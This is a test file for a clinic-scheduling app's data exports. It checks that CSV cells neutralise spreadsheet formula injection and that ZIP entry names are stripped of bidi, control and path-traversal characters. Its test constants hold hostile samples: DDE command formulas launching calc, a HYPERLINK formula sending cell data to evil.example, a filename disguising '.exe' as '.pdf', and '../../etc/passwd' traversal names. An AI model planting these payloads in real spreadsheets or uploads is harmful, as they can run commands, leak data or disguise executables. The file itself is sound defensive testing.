// What the exports' CSVs and ZIP entries hold when people type hostile texts: a formula in a name,
// an answer, a question or a note (anyone can plant one by booking online) reaches the spreadsheet
// as text, and a file's name cannot disguise itself with bidi or control characters.
import { execFileSync } from 'node:child_process';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApi, type TestApi } from './harness.ts';
import { openBookingPage } from './booking-page.ts';
import { createCustomer, createField } from './customer-helpers.ts';
import { testClock, type AuthHeaders } from './helpers.ts';
import { addMember, makeCompany, type Member } from './members.ts';
import { taskClient } from './task-helpers.ts';
import { csvLine, entryName, ZipWriter } from '../src/modules/records/zip.ts';
import { LocalFileStorage } from '../src/storage/local.ts';
import { newFileKey } from '../src/storage/file-types.ts';
import { ZIP } from '../src/modules/records/jobs.ts';
import { parse } from 'csv-parse/sync';

// 09:00 on Monday 30 November 2026 in São Paulo.
const clock = testClock(new Date('2026-11-30T12:00:00Z'));
let api: TestApi;
let owner: Member;
let professional: Member;
let work: string;
let staffCustomer: number;
let bookedCustomer: number;
let taskId: number;
let attachmentId: number;

const PROFESSIONAL = "-2+3+cmd|' /C calc'!A0";
const STAFF_CUSTOMER = '-1+1';
const BOOKED_CUSTOMER = '-2+3';
const QUESTION = '@SUM(1+1)';
const ANSWER = "=cmd|' /C calc'!A0";
const QUOTED_ANSWER = '"=1+1';
/** A formula behind an invisible character, which a cleanup may drop. */
const BOARD = '\u200b@SUM(1+1)';
const NOTES = '=HYPERLINK("http://evil.example?x="&A1,"Clique")';
const TASK_TITLE = '+1+1';
/** Shown as 'Exame de sangue (cópia)‮fdp.exe' reads 'exe.pdf': bidi overrides, isolates, marks and invisible characters. */
const HOSTILE_FILE_NAME = 'Exame\u200f de\u2066 sangue\u2069 – Júlia (cópia)\u00a0\u202efdp.exe\ufeff\u200b<>:*?|.txt';
const CLEAN_FILE_NAME = 'Exame_ de_ sangue_ _ Júlia (cópia) _fdp.exe________.txt';
/** What a spreadsheet runs as a formula (OWASP), also behind blanks, invisible characters or quotes. */
const FORMULA_START = /^[\s\p{Cc}\p{Cf}"']*[=+\-@\t\r]/u;

type Json = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any

async function call(method: 'GET' | 'POST' | 'PATCH' | 'PUT', url: string, auth: AuthHeaders | null, payload?: Json) {
  const response = await api.app.inject({ method, url, headers: auth ?? {}, ...(payload === undefined ? {} : { payload }) });
  return { status: response.statusCode, body: (response.body ? response.json() : {}) as Json };
}

/** Asks for an export, lets the queue build it, and unpacks its ZIP into `folder`; its entries. */
async function exportZip(url: string, folder: string): Promise<string[]> {
  const asked = await call('POST', url, owner.auth, {});
  expect(asked.status).toBe(202);
  await api.app.exportJobs.drain();
  const done = await call('GET', `${url}/${asked.body.export.id}`, owner.auth);
  expect(done.body.export.status).toBe('done');
  const response = await fetch(`${api.url}${done.body.export.download_url}`);
  expect(response.status).toBe(200);
  const zipFile = join(work, `${folder}.zip`);
  await writeFile(zipFile, Buffer.from(await response.arrayBuffer()));
  execFileSync('unzip', ['-q', '-o', zipFile, '-d', join(work, folder)]);
  return execFileSync('zipinfo', ['-1', zipFile], { encoding: 'utf8' }).trim().split('\n');
}

/** RFC 4180, as a spreadsheet reads it back: quoted fields, doubled quotes, line breaks inside quotes. */
const parseCsv = (text: string): string[][] => parse(text, { relax_column_count: true });

/** The CSV's rows by their header, read as a spreadsheet gets them. */
async function readCsv(file: string): Promise<Record<string, string>[]> {
  const text = await readFile(file, 'utf8');
  expect(text.charCodeAt(0)).toBe(0xfeff);
  const [header, ...rows] = parseCsv(text.slice(1));
  return rows.map((row) => Object.fromEntries(header!.map((column, index) => [column, row[index]!])));
}

/** Every cell a spreadsheet would run, not kept as text by a leading apostrophe; a plain number like -5 is no formula. */
function liveFormulas(rows: Record<string, string>[]): string[] {
  return rows.flatMap((row) => Object.values(row)).filter((cell) => !cell.startsWith("'") && FORMULA_START.test(cell) && !/^-?\d+(?:\.\d+)?$/.test(cell));
}

beforeAll(async () => {
  api = await startTestApi({ clock });
  work = await mkdtemp(join(tmpdir(), 'export-cells-'));
  owner = await makeCompany(api.db, 'team', { name: 'Dra. Helena', now: clock() });
  professional = await addMember(api.db, owner.companyId, 'standard', { name: PROFESSIONAL, now: clock() });
  const question = await createField(api, owner, { question: QUESTION, answer_type: 'text' });
  const other = await createField(api, owner, { question: 'Observação', answer_type: 'text' });
  staffCustomer = await createCustomer(api, owner.auth, STAFF_CUSTOMER, { [question]: ANSWER, [other]: QUOTED_ANSWER });

  const hashid = await openBookingPage(api, owner, { professionalId: professional.id, hours: [{ weekday: 2, start: '08:00', end: '12:00' }] });
  const booked = await api.app.inject({
    method: 'POST',
    url: `/api/v1/public/booking/${hashid}`,
    payload: { booking: { user_id: professional.id, starts_at: '2026-12-01T08:00:00-03:00', name: BOOKED_CUSTOMER, email: 'formula@exemplo.com.br', phone: '(11) 90000-0000' } },
  });
  expect(booked.statusCode, booked.body).toBe(201);
  bookedCustomer = (await api.db.selectFrom('customers').select('id').where('company_id', '=', owner.companyId).where('name', '=', BOOKED_CUSTOMER).executeTakeFirstOrThrow()).id;

  const appointment = await call('POST', '/api/v1/appointments', owner.auth, {
    appointment: { customer_id: staffCustomer, user_id: professional.id, starts_at: '2026-12-01T10:00', ends_at: '2026-12-01T10:50', notes: NOTES },
  });
  expect(appointment.status).toBe(201);
  // The professional reads the record: the access log names them.
  expect((await call('GET', `/api/v1/customers/${staffCustomer}`, professional.auth)).status).toBe(200);
  const tasks = taskClient(api, owner.auth);
  const board = (await tasks.createBoard({ name: BOARD })).body.task_list.id;
  taskId = (await tasks.createTask(board, { title: TASK_TITLE, customer_id: staffCustomer })).body.task.id;
  const form = new FormData();
  form.append('file', new Blob([Buffer.from('exame de sangue')], { type: 'text/plain' }), HOSTILE_FILE_NAME);
  const attached = await fetch(`${api.url}/api/v1/tasks/${taskId}/attachments`, { method: 'POST', headers: owner.auth, body: form });
  expect(attached.status).toBe(201);
  attachmentId = ((await attached.json()) as Json).attachment.id;
}, 120_000);
afterAll(async () => {
  await api.close();
  await rm(work, { recursive: true, force: true });
});

describe('formulas typed into the product', () => {
  it("reach the patient's copy as text: the appointments and the access log", async () => {
    await expect.poll(async () => (await api.db.selectFrom('customer_accesses').select('id').where('customer_id', '=', staffCustomer).where('user_id', '=', professional.id).execute()).length).toBeGreaterThan(0);
    await exportZip(`/api/v1/customers/${staffCustomer}/exports`, 'staff');
    const appointments = await readCsv(join(work, 'staff', 'atendimentos.csv'));
    expect(appointments).toHaveLength(1);
    expect(appointments[0]).toMatchObject({ profissional: `'${PROFESSIONAL}`, observacoes: `'${NOTES}` });
    expect(Number(appointments[0]!.id)).toBeGreaterThan(0);
    const accesses = await readCsv(join(work, 'staff', 'acessos.csv'));
    expect(accesses.map((row) => row.quem)).toContain(`'${PROFESSIONAL}`);
    expect(liveFormulas([...appointments, ...accesses])).toEqual([]);
    // The JSON copies keep the texts as they were typed.
    const registration = JSON.parse(await readFile(join(work, 'staff', 'cadastro.json'), 'utf8'));
    expect(registration.cliente.nome).toBe(STAFF_CUSTOMER);
  }, 60_000);

  it("reach the copy of a patient who booked online under a formula's name as text", async () => {
    await exportZip(`/api/v1/customers/${bookedCustomer}/exports`, 'booked');
    const appointments = await readCsv(join(work, 'booked', 'atendimentos.csv'));
    expect(appointments).toEqual([expect.objectContaining({ profissional: `'${PROFESSIONAL}`, origem: 'Agendamento online' })]);
    expect(liveFormulas(appointments)).toEqual([]);
  }, 60_000);

  it("reach the company's export as text in every table, and numbers stay numbers", async () => {
    const entries = await exportZip(`/api/v1/companies/${owner.companyId}/exports`, 'company');
    const tables = entries.filter((entry) => entry.startsWith('tabelas/') && entry.endsWith('.csv'));
    expect(tables.length).toBeGreaterThan(10);
    const read = Object.fromEntries(await Promise.all(tables.map(async (entry) => [entry.slice('tabelas/'.length, -'.csv'.length), await readCsv(join(work, 'company', entry))] as const)));
    for (const [table, rows] of Object.entries(read)) expect(liveFormulas(rows), table).toEqual([]);

    const customers = read.customers!;
    expect(customers.map((row) => row.name).sort()).toEqual([`'${STAFF_CUSTOMER}`, `'${BOOKED_CUSTOMER}`].sort());
    const staff = customers.find((row) => row.name === `'${STAFF_CUSTOMER}`)!;
    expect(staff.id).toBe(String(staffCustomer));
    expect(Object.values(JSON.parse(staff.fields_values!))).toEqual(expect.arrayContaining([ANSWER, QUOTED_ANSWER]));
    expect(read.users!.map((row) => row.name)).toContain(`'${PROFESSIONAL}`);
    expect(read.customer_fields!.map((row) => row.question)).toContain(`'${QUESTION}`);
    expect(read.appointments!.map((row) => row.notes)).toContain(`'${NOTES}`);
    expect(read.task_lists!.map((row) => row.name)).toContain(`'${BOARD}`);
    expect(read.tasks!.find((row) => row.id === String(taskId))).toMatchObject({ title: `'${TASK_TITLE}` });
    expect(read.activities!.map((row) => row.item_name)).toEqual(expect.arrayContaining([`'${STAFF_CUSTOMER}`, `'${BOOKED_CUSTOMER}`]));
  }, 60_000);
});

describe('file names in the export ZIPs', () => {
  it('keep letters of any script, digits, spaces and .-_() only, the rest replaced', async () => {
    const stored = await api.db.selectFrom('attachments').select('filename').where('id', '=', attachmentId).executeTakeFirstOrThrow();
    expect(stored.filename).toContain('\u202e');
    const patient = await exportZip(`/api/v1/customers/${staffCustomer}/exports`, 'names-patient');
    expect(patient).toContain(`arquivos/anexos/${attachmentId}-${CLEAN_FILE_NAME}`);
    const listed = JSON.parse(await readFile(join(work, 'names-patient', 'arquivos.json'), 'utf8'));
    expect(listed).toEqual([expect.objectContaining({ arquivo: `arquivos/anexos/${attachmentId}-${CLEAN_FILE_NAME}`, nome_original: stored.filename })]);
    const company = await exportZip(`/api/v1/companies/${owner.companyId}/exports`, 'names-company');
    expect(company).toContain(`arquivos/${attachmentId}-${CLEAN_FILE_NAME}`);
    for (const entry of [...patient, ...company]) expect(entry).toMatch(/^[\p{L}\p{M}\p{Nd} .\-_()/]+$/u);
    expect(await readFile(join(work, 'names-company', 'arquivos', `${attachmentId}-${CLEAN_FILE_NAME}`), 'utf8')).toBe('exame de sangue');
  }, 60_000);

  it('stay unique within a ZIP, letter case aside, and never leave their folder', async () => {
    const storage = new LocalFileStorage(join(work, 'zips'));
    const key = newFileKey(ZIP);
    const zip = new ZipWriter(storage, key);
    const names: string[] = [];
    for (const name of ['laudo?.pdf', 'laudo*.pdf', 'LAUDO|.PDF', 'laudo_.pdf', 'anexos/../../etc/passwd', 'anexos/..', '.oculto', 'CON.txt', '\u202e\u2067', 'sem extensão?']) {
      names.push(await zip.add(name, 'x'));
    }
    await zip.finish();
    expect(names).toEqual(['laudo_.pdf', 'laudo_ (2).pdf', 'LAUDO_ (3).PDF', 'laudo_ (4).pdf', 'anexos/_/_/etc/passwd', 'anexos/_', '_oculto', '_CON.txt', '__', 'sem extensão_']);
    const zipFile = join(work, 'zips', key);
    expect(execFileSync('zipinfo', ['-1', zipFile], { encoding: 'utf8' }).trim().split('\n')).toEqual(names);
  });

  it('keep their extension when cut to 120 characters', () => {
    const long = entryName(`${'Relatório de evolução '.repeat(10)}.pdf`);
    expect(Array.from(long)).toHaveLength(120);
    expect(long).toMatch(/^Relatório de evolução .*\.pdf$/);
    expect(entryName('𝒜𝒷𝒸 ÇÃO ação 日本語 عربي ١٢٣.txt')).toBe('𝒜𝒷𝒸 ÇÃO ação 日本語 عربي ١٢٣.txt');
    expect(entryName('   ')).toBe('arquivo');
  });
});

describe('a CSV line of an export', () => {
  it('keeps numbers as numbers and every text, JSON included, inert', () => {
    expect(csvLine([-5, 0, 12.5, '-5', '-', '-1+1', '(11) 98888-7777', null, true])).toBe("-5,0,12.5,'-5,'-,'-1+1,(11) 98888-7777,,true\r\n");
    expect(csvLine(['=HYPERLINK("http://evil.example","Clique")', '\t=1+1', '"=1+1', { nome: '=1+1' }, '=1+1'.split('')])).toBe(
      `"'=HYPERLINK(""http://evil.example"",""Clique"")",'\t=1+1,"'""=1+1","{""nome"":""=1+1""}","[""="",""1"",""+"",""1""]"\r\n`,
    );
    expect(csvLine([new Date('2026-12-01T11:00:00Z')])).toBe('2026-12-01T11:00:00.000Z\r\n');
  });
});
